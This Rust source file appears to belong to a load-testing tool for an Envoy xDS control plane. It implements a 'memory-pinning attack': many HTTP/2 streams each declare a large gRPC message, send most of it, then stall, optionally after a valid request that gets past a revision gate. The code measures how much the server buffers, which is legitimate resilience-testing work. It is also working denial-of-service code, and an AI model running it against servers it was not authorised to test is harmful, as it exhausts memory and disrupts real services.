//! `revplane load --stall-bytes N`: the memory-pinning attack, to measure what a server lets
//! unauthenticated clients make it buffer. Each stream sends a gRPC length prefix of N bytes
//! and most of that body (optionally after a valid first request, to get past a revision
//! gate), then stalls with the stream and its connection open. The report counts the streams
//! the server still held at the end and those it ended, by gRPC status.
//!
//! It speaks HTTP/2 with h2 directly: no gRPC client sends half a message.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::Duration;

use bytes::{BufMut, Bytes, BytesMut};
use envoy_types::pb::envoy::service::discovery::v3::DiscoveryRequest;
use prost::Message;
use serde::Serialize;
use tokio::net::TcpStream;
use tokio::sync::mpsc;

use crate::snapshot::ResourceType;

/// Share of the declared body each stream sends before it stalls.
const SENT_SHARE: f64 = 0.9;

/// What to send.
#[derive(Clone, Debug)]
pub struct StallConfig {
    /// ADS server address.
    pub xds_addr: SocketAddr,
    /// Streams in all.
    pub streams: usize,
    /// HTTP/2 connections the streams share.
    pub connections: usize,
    /// The length prefix each stream declares.
    pub declared_bytes: usize,
    /// Send a valid first request claiming this revision before the large one.
    pub revision: Option<String>,
    /// How long to hold the streams.
    pub duration: Duration,
}

/// What the server did with the streams.
#[derive(Clone, Debug, Default, Serialize)]
pub struct StallReport {
    /// Streams opened.
    pub streams: usize,
    /// Streams the server still held at the end.
    pub stalled: usize,
    /// Streams the server ended, by gRPC status code name.
    pub ended: BTreeMap<String, usize>,
    /// Streams or connections that failed otherwise (refused connection, reset), by reason.
    pub failed: BTreeMap<String, usize>,
}

impl StallReport {
    /// The human table.
    pub fn to_table(&self) -> String {
        let mut out = format!("streams {}   still held {}\n", self.streams, self.stalled);
        for (code, n) in &self.ended {
            out += &format!("ended {code}: {n}\n");
        }
        for (why, n) in &self.failed {
            out += &format!("failed {why}: {n}\n");
        }
        out
    }
}

enum Outcome {
    Ended(String),
    Failed(String),
}

/// Runs the attack for `config.duration` and reports.
pub async fn run(config: &StallConfig) -> anyhow::Result<StallReport> {
    let body = partial_message(config.declared_bytes);
    let first = config.revision.as_deref().map(first_request);
    let (tx, mut rx) = mpsc::unbounded_channel();
    let connections = config.connections.max(1);
    // The streams' sending halves and the connections, kept open to the end.
    let (mut held, mut senders) = (Vec::new(), Vec::new());
    let mut waiting = tokio::task::JoinSet::new();
    for c in 0..connections {
        let streams = config.streams / connections + usize::from(c < config.streams % connections);
        let sender = match connect(config.xds_addr).await {
            Ok(sender) => sender,
            Err(e) => {
                for _ in 0..streams {
                    let _ = tx.send(Outcome::Failed(format!("connect: {e}")));
                }
                continue;
            }
        };
        for _ in 0..streams {
            let request = http::Request::post(format!(
                "http://{}/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources",
                config.xds_addr
            ))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .expect("a valid request");
            let mut ready = match sender.clone().ready().await {
                Ok(s) => s,
                Err(e) => {
                    let _ = tx.send(Outcome::Failed(format!("connection: {e}")));
                    continue;
                }
            };
            let (response, mut stream) = match ready.send_request(request, false) {
                Ok(opened) => opened,
                Err(e) => {
                    let _ = tx.send(Outcome::Failed(format!("open stream: {e}")));
                    continue;
                }
            };
            if let Some(first) = &first {
                let _ = stream.send_data(first.clone(), false);
            }
            let _ = stream.send_data(body.clone(), false);
            let tx = tx.clone();
            held.push(stream);
            waiting.spawn(async move {
                let _ = tx.send(outcome(response).await);
            });
        }
        senders.push(sender);
    }
    drop(tx);
    let mut report = StallReport {
        streams: config.streams,
        ..Default::default()
    };
    let deadline = tokio::time::sleep(config.duration);
    tokio::pin!(deadline);
    let mut counted = 0;
    loop {
        tokio::select! {
            _ = &mut deadline => break,
            outcome = rx.recv() => match outcome {
                None => break,
                Some(Outcome::Ended(code)) => { counted += 1; *report.ended.entry(code).or_default() += 1 }
                Some(Outcome::Failed(why)) => { counted += 1; *report.failed.entry(why).or_default() += 1 }
            }
        }
    }
    report.stalled = config.streams.saturating_sub(counted);
    // Let go of everything: the streams are reset and the connections close.
    waiting.shutdown().await;
    drop((held, senders));
    Ok(report)
}

/// Opens an HTTP/2 connection and drives it in the background.
async fn connect(addr: SocketAddr) -> anyhow::Result<h2::client::SendRequest<Bytes>> {
    let tcp = TcpStream::connect(addr).await?;
    tcp.set_nodelay(true)?;
    let (sender, connection) = h2::client::handshake(tcp).await?;
    tokio::spawn(async move {
        let _ = connection.await;
    });
    Ok(sender)
}

/// Waits for the server to end the stream; never returns while it holds it.
async fn outcome(response: h2::client::ResponseFuture) -> Outcome {
    let response = match response.await {
        Ok(r) => r,
        Err(e) => return Outcome::Failed(format!("stream: {}", reason(&e))),
    };
    if let Some(code) = grpc_status(response.headers()) {
        return Outcome::Ended(code);
    }
    let mut body = response.into_body();
    while let Some(data) = body.data().await {
        match data {
            Ok(data) => {
                let _ = body.flow_control().release_capacity(data.len());
            }
            Err(e) => return Outcome::Failed(format!("stream: {}", reason(&e))),
        }
    }
    match body.trailers().await {
        Ok(Some(trailers)) => {
            Outcome::Ended(grpc_status(&trailers).unwrap_or_else(|| "no grpc-status".into()))
        }
        Ok(None) => Outcome::Ended("no grpc-status".into()),
        Err(e) => Outcome::Failed(format!("stream: {}", reason(&e))),
    }
}

fn reason(e: &h2::Error) -> String {
    match e.reason() {
        Some(reason) => format!("{reason:?}"),
        None if e.is_io() => "connection closed".to_string(),
        None => e.to_string(),
    }
}

/// The gRPC status code name in `headers`, if any.
fn grpc_status(headers: &http::HeaderMap) -> Option<String> {
    let code: i32 = headers.get("grpc-status")?.to_str().ok()?.parse().ok()?;
    Some(format!("{:?}", tonic::Code::from_i32(code)))
}

/// A length prefix declaring `declared` bytes and most of that body (zeroes).
fn partial_message(declared: usize) -> Bytes {
    let sent = (declared as f64 * SENT_SHARE) as usize;
    let mut out = BytesMut::with_capacity(5 + sent);
    out.put_u8(0);
    out.put_u32(u32::try_from(declared).unwrap_or(u32::MAX));
    out.put_bytes(0, sent);
    out.freeze()
}

/// A valid first CDS request from a proxy of `revision`, framed.
fn first_request(revision: &str) -> Bytes {
    let request = DiscoveryRequest {
        node: Some(super::proxy::node(0, revision)),
        type_url: ResourceType::Cluster.type_url().to_string(),
        ..Default::default()
    };
    let mut out = BytesMut::new();
    out.put_u8(0);
    out.put_u32(request.encoded_len() as u32);
    request.encode(&mut out).expect("a BytesMut grows");
    out.freeze()
}
